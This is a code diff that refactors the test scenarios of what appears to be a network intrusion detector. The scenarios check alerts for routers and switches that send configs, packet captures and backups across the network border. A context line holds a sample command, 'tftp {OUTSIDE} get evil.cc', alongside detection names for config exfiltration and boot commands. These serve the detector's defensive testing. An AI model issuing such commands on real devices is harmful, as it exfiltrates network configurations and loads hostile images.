@@ -39,16 +39,18 @@ def orders(wire: Wire, client: str, server: str) -> None:
     http.order(wire, client, "10.0.1.6", "/rest/tool/fetch", posted(fetch))
 
 
+SENT = (sent(1, "x.cfg"), sent(2, "x.pcap"), *(sent(n, "x.cfg") for n in (3, 4, 5)), sent(6, "x.backup"))
+
+
 @scenario(
     "BW18",
     "malicious",
     raises=[
         ("BW18", sid, ATTACKER, f"10.0.1.{last}") for last, sid in enumerate((IOS, IOS, EAPI, NXAPI, WSMA, ROUTEROS), 1)
     ],
+    plain=Expect(SENT),
     site=HQ,
-    with_site=Expect(
-        (sent(1, "x.cfg"), sent(2, "x.pcap"), *(sent(n, "x.cfg") for n in (3, 4, 5)), sent(6, "x.backup"))
-    ),
+    with_site=Expect(SENT),
 )
 def bw18_web_sends(wire: Wire) -> None:
     """By IOS' browser interface, eAPI, NX-API, WSMA and RouterOS REST devices are told to send across the border."""
@@ -105,24 +107,19 @@ WORDS = (
     (18, "BW07", 1542007454, f"tftp {OUTSIDE} get evil.cc"),
 )
 FILES = {11: "x.cfg", 12: "x.pcap", 13: "x.txt", 14: "x.zip", 15: None, 16: "evil.bin", 17: "evil.tgz", 18: "evil.cc"}
+ASKED = tuple(
+    Notice("Boot_Command" if detection == "BW07" else "Config_Exfiltration", f"10.0.1.{last}", OUTSIDE, FILES[last])
+    for last, detection, _, _ in WORDS
+)
 
 
 @scenario(
     "BW18",
     "malicious",
     raises=[(detection, sid, f"10.0.1.{last}", AAA) for last, detection, sid, _ in WORDS],
+    plain=Expect(ASKED),
     site=HQ,
-    with_site=Expect(
-        tuple(
-            Notice(
-                "Boot_Command" if detection == "BW07" else "Config_Exfiltration",
-                f"10.0.1.{last}",
-                OUTSIDE,
-                FILES[last],
-            )
-            for last, detection, _, _ in WORDS
-        )
-    ),
+    with_site=Expect(ASKED),
 )
 def bw18_tacacs_word_by_word(wire: Wire) -> None:
     """Devices ask leave by TACACS+ in clear, word by word, for what sends and loads across the border."""
